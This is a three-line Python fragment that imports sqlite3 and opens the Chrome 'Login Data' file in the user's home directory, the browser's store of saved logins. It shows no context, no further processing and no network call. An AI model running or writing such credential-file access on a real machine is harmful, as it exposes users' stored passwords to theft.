import sqlite3
from pathlib import Path

open(Path.home() / "Library/Chrome/Default/Login Data")
